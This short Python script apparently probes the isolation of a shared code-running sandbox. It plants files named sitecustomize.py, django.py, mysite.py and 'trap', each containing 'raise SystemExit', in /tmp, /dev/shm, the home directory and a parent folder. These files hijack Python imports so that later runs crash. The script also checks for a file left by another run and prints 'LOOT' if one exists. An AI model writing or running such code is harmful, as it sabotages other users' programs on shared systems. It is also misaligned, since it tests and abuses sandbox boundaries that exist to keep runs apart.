# Leaves traps for the next answer: bytecode, sitecustomize, modules in shared folders.
import os, pathlib
for folder in (os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd() + "/../.."):
    for name in ("sitecustomize.py", "django.py", "mysite.py", "trap"):
        try: pathlib.Path(folder, name).write_text("raise SystemExit")
        except OSError: pass
if pathlib.Path("/dev/shm/trap-of-another").exists(): print("LOOT")
